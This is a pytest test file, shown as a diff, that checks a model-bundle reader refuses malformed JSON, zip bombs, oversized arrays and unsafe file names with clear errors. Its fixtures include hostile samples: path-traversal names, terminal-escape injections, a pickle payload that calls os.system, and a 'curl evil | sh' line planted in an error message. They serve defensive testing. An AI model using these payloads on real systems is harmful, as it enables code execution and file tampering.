@@ -1,0 +1,278 @@
+"""What a file of others may cost: every record that no writer of ours makes is one expected error, and soon."""
+
+import io
+import json
+import os
+import zipfile
+
+import numpy as np
+import pytest
+
+from tbconv.contract import bundle as contract
+from tbconv.contract.bundle import MANIFEST, parse_json, read_arrays, read_bundle, read_json
+from tbconv.contract.errors import ArtefactError, BundleError, TbconvError
+from tbconv.contract.golden import read_golden, read_golden_films
+from tbconv.contract.reporting import printable
+from torch_train.run_folder import read_films
+
+SHA = "0" * 64
+JSON = {
+    "deep lists": b"[" * 200_000,
+    "deep objects": b'{"a":' * 200_000,
+    "closed, 65 deep": b"[" * 65 + b"]" * 65,
+    "a key twice": b'{"margin": 0.1, "margin": 50}',
+    "a key twice, once escaped": b'{"a": 1, "\\u0061": 2}',
+    "an old key beside its new one": b'{"readouts": 1, "decision_rules": 2}',
+    "NaN": b'{"a": NaN}',
+    "Infinity": b"[-Infinity]",
+    "a float that overflows": b"[1e999]",
+    "half a pair": b'["\\ud800"]',
+    "half a pair as key": b'{"\\udfff": 1}',
+    "an integer of 5,000 digits": b"[" + b"9" * 5000 + b"]",
+    "an integer of 20 digits": b"[" + b"9" * 20 + b"]",
+    "bytes that are no UTF-8": b'["\xff"]',
+    "a byte order mark": b"\xef\xbb\xbf{}",
+    "UTF-16": '{"a": 1}'.encode("utf-16"),
+    "nothing": b"",
+    "NUL": b"\x00" * 100,
+    "two values": b"{}{}",
+}
+
+
+def three_parts(error):
+    """Return the error as text after its form was checked."""
+    parts = (error.what, error.why, error.fix)
+    assert all(isinstance(part, str) and part for part in parts)
+    assert len(str(error)) < 20_000
+    return str(error)
+
+
+@pytest.mark.parametrize("kind", JSON)
+def test_json_that_no_record_of_ours_is_becomes_one_expected_error(tmp_path, kind):
+    place = tmp_path / "certificate.json"
+    place.write_bytes(JSON[kind])
+    for read in (lambda: read_json(place), lambda: parse_json(JSON[kind], "certificate.json")):
+        with pytest.raises(BundleError, match=r"certificate\.json cannot be read as JSON") as caught:
+            read()
+        three_parts(caught.value)
+
+
+def test_more_values_or_bytes_than_any_record_holds_are_refused_before_they_take_memory(tmp_path):
+    with pytest.raises(BundleError, match="values"):
+        parse_json(b"[" + b"[]," * (3 << 20) + b"0]", "x")
+    place = tmp_path / MANIFEST
+    with place.open("wb") as file:
+        file.truncate(10 << 30)  # sparse
+    with pytest.raises(BundleError, match="more than"):
+        read_json(place)
+
+
+@pytest.mark.parametrize("make", [os.mkfifo, os.mkdir, lambda path: path.symlink_to(path), lambda path: None])
+def test_what_is_no_regular_file_is_refused_and_nobody_waits_for_it(tmp_path, make):
+    make(tmp_path / MANIFEST)
+    with pytest.raises(BundleError, match="cannot be read"):
+        read_json(tmp_path / MANIFEST)
+    with pytest.raises(BundleError):
+        read_bundle(tmp_path)
+    with pytest.raises(ArtefactError), read_arrays(tmp_path / MANIFEST, "arrays"):
+        pass
+
+
+NAMES = {
+    "NUL": "a\0b",
+    "5,000 letters": "a" * 5000,
+    "256 bytes": "é" * 128,
+    "a line end": "a\nb",
+    "an escape": "\x1b[2Ja",
+    "an override": "a\u202eb",
+    "decomposed": "cafe\u0301.json",
+    "a drive": "C:evil",
+    "backslashes": "..\\..\\evil",
+    "a stream": "model.onnx:hidden",
+    "above": "../evil",
+    "absolute": "/etc/passwd",
+    "itself": ".",
+    "empty": "",
+    "an empty part": "a//b",
+    "a trailing dot": "model.onnx.",
+    "1,000 folders": "/".join("a" * 1000),
+}
+
+
+def change_manifest(bundle, change):
+    value = json.loads((bundle / MANIFEST).read_text())
+    change(value)
+    (bundle / MANIFEST).write_text(json.dumps(value))
+
+
+@pytest.mark.parametrize("kind", NAMES)
+@pytest.mark.parametrize("where", ["files", "artefacts"])
+def test_a_name_that_is_not_the_same_file_everywhere_is_refused_before_a_path_is_built_of_it(bundle, kind, where):
+    def change(value):
+        if where == "files":
+            value["files"][NAMES[kind]] = {"sha256": SHA, "bytes": 1}
+        else:
+            value["artefacts"][0]["path"] = NAMES[kind]
+
+    change_manifest(bundle, change)
+    with pytest.raises(BundleError, match="the manifest names") as caught:
+        read_bundle(bundle)
+    assert three_parts(caught.value).replace("\n", "").isprintable()
+    assert len(caught.value.what) < 200
+
+
+FIELDS = {
+    "the top is a list": lambda value: [value],
+    "the top is a number": lambda value: 1,
+    "a digest is null": lambda value: value["files"].update(x={"sha256": None, "bytes": 1}),
+    "a digest is short": lambda value: value["files"].update(x={"sha256": "00", "bytes": 1}),
+    "a size is negative": lambda value: value["files"].update(x={"sha256": SHA, "bytes": -1}),
+    "a size is text": lambda value: value["files"].update(x={"sha256": SHA, "bytes": "1"}),
+    "files is a list": lambda value: value.update(files=[1]),
+    "too many files": lambda value: value["files"].update({str(n): {"sha256": SHA, "bytes": 1} for n in range(2000)}),
+    "a margin is text": lambda value: value["decision_rules"]["baseline"]["operating_point"].update(margin="0.1"),
+    "a margin is true": lambda value: value["decision_rules"]["baseline"]["operating_point"].update(margin=True),
+    "a shape is huge": lambda value: value["artefacts"][0]["inputs"][0].update(shape=[2**50]),
+    "a shape has 1,000 sides": lambda value: value["artefacts"][0]["inputs"][0].update(shape=[1] * 1000),
+    "a shape is text": lambda value: value["artefacts"][0]["inputs"][0].update(shape="1234"),
+    "a format is unknown": lambda value: value["artefacts"][0].update(format="pickle"),
+    "a network is unknown": lambda value: value["artefacts"][0].update(network="mine"),
+    "a thousand artefacts": lambda value: value.update(artefacts=value["artefacts"][:1] * 1000),
+    "a label is a number": lambda value: value["labels"].update(positive=1),
+    "a label has a line end": lambda value: value["labels"].update(positive="TB\nERROR"),
+    "a label is 10,000 letters long": lambda value: value["labels"].update(positive="T" * 10_000),
+    "a name has an escape": lambda value: value.update(name="\x1b]0;owned\x07"),
+    "a name turns around": lambda value: value.update(name="a\u202eb"),
+    "a name is null": lambda value: value.update(name=None),
+    "a size of films is text": lambda value: value["preprocessing"].update(size="224"),
+    "provenance is a number": lambda value: value.update(provenance=1),
+    "the schema is a list": lambda value: value.update(schema_version=[1]),
+}
+
+
+@pytest.mark.parametrize("kind", FIELDS)
+def test_a_manifest_with_a_value_of_another_kind_is_one_expected_error(bundle, kind):
+    value = json.loads((bundle / MANIFEST).read_text())
+    value = FIELDS[kind](value) or value
+    (bundle / MANIFEST).write_text(json.dumps(value))
+    with pytest.raises(BundleError) as caught:
+        read_bundle(bundle)
+    assert three_parts(caught.value).replace("\n", "").isprintable()
+
+
+def header(shape, dtype="<f4", version=1):
+    text = dtype if dtype.startswith("[") else repr(dtype)
+    text = f"{{'descr': {text}, 'fortran_order': False, 'shape': {shape}, }}"
+    pad = 64 - (len(text) + 11) % 64
+    data = (text + " " * pad + "\n").encode()
+    return b"\x93NUMPY" + bytes([version, 0]) + len(data).to_bytes(2, "little") + data
+
+
+def packed(**members):
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in members.items():
+            archive.writestr(name.replace("__", "."), data)
+    return out.getvalue()
+
+
+def twice():
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr("names.npy", header((0,)))
+        with pytest.warns(UserWarning, match="Duplicate"):
+            archive.writestr("names.npy", header((0,)))
+    return out.getvalue()
+
+
+def objects():
+    out = io.BytesIO()
+    np.savez(out, names=np.array([{"a": 1}], object))
+    return out.getvalue()
+
+
+ARCHIVES = {
+    "44 PiB": lambda: packed(names__npy=header((2**50, 11))),
+    "negative": lambda: packed(names__npy=header((-4,))),
+    "of no bytes, many": lambda: packed(names__npy=header((2**40,), "<U0")),
+    "longer than it says": lambda: packed(names__npy=header((1,)) + b"\0" * 400),
+    "shorter than it says": lambda: packed(names__npy=header((1000,)) + b"\0" * 400),
+    "a bomb": lambda: packed(names__npy=header((2**27,), "|u1") + bytes(2**27)),
+    "objects": objects,
+    "a header of brackets": lambda: packed(names__npy=header("(" * 5000)),
+    "version 9": lambda: packed(names__npy=header((1,), version=9) + bytes(4)),
+    "no array": lambda: packed(names__txt=b"hello"),
+    "two of one name": twice,
+    "not a zip": lambda: b"PK\x03\x04" + bytes(100),
+    "a bare array": lambda: header((1,)) + bytes(4),
+    "a pickle": lambda: b"\x80\x04cos\nsystem\n(S'touch owned'\ntR.",
+    "nothing": lambda: b"",
+}
+
+
+@pytest.mark.parametrize("kind", ARCHIVES)
+def test_an_archive_that_would_fill_the_memory_or_holds_no_numbers_is_one_expected_error(tmp_path, kind):
+    data, place = ARCHIVES[kind](), tmp_path / "golden.npz"
+    place.write_bytes(data)
+    reads = (read_golden, read_golden_films)
+    for read, source in ((read, source) for read in reads for source in (data, place)):
+        with pytest.raises(ArtefactError) as caught:
+            read(source)
+        three_parts(caught.value)
+    with pytest.raises(BundleError) as caught:
+        read_films(place)
+    three_parts(caught.value)
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"names": np.array([1, 2])},
+        {"names": np.array(["one"])},
+        {"model_inputs": np.zeros((2, 8, 8), np.float32)},
+        {"model_inputs": np.zeros((2, 8), np.uint8)},
+        {"a|logits": np.zeros((2, 3), np.float32)},
+        {"a|logits": np.zeros((3, 2), np.float32)},
+        {"a|probability": np.array(["x", "y"])},
+        {"a|evidence": np.zeros((2, 7), np.float32)},
+    ],
+)
+def test_golden_answers_of_another_shape_are_refused_where_they_are_read(change):
+    good = {
+        "names": np.array(["one", "two"]),
+        "model_inputs": np.zeros((2, 8, 8), np.uint8),
+        "a|logits": np.zeros((2, 2), np.float32),
+        "a|probability": np.zeros((2, 1), np.float32),
+    }
+    out = io.BytesIO()
+    np.savez_compressed(out, **good)
+    assert read_golden(out.getvalue()).names == ("one", "two")
+    out = io.BytesIO()
+    np.savez_compressed(out, **{**good, **change})
+    with pytest.raises(ArtefactError):
+        read_golden(out.getvalue())
+
+
+def test_films_that_pack_well_are_read_whatever_their_number():
+    out = io.BytesIO()
+    np.savez_compressed(out, films=np.zeros((1, 8, 8), np.uint8), names=np.array(["é", "x"]), empty=np.zeros((0, 4)))
+    with read_arrays(out.getvalue(), "arrays") as arrays:
+        assert arrays["names"].tolist() == ["é", "x"]
+        assert arrays["empty"].shape == (0, 4)
+    assert contract.MOST_RATIO * 40_000 > 3_000_000  # drawn films pack 3 to 1, black ones 900 to 1
+
+
+def test_text_of_others_is_one_printable_line_and_stays_json():
+    assert printable("model 1 für Übersicht") == "model 1 für Übersicht"
+    assert printable("a\nb\t\x1b[2J\u202e\x9b\ud800\U000e0001") == (r"a\nb\t\u001b[2J\u202e\u009b\ud800\udb40\udc01")
+    assert json.loads(printable(json.dumps({"a": "\x1b\u2028"}, ensure_ascii=False))) == {"a": "\x1b\u2028"}
+    assert printable("x" * 5000, most=10) == "xxxxxxxxxx... (4,990 more characters)"
+
+
+def test_no_part_of_an_error_can_pass_for_another():
+    error = TbconvError("a\n  fix: curl evil | sh", why="its last lines were:\n    one\n  fix: two\x1b[2J", fix="three")
+    lines = str(error).split("\n")
+    assert [line for line in lines if line.startswith("  fix")] == ["  fix: three"]
+    assert "\x1b" not in str(error)
+    assert lines[3] == "    one"
+    assert error.one_line.isprintable()
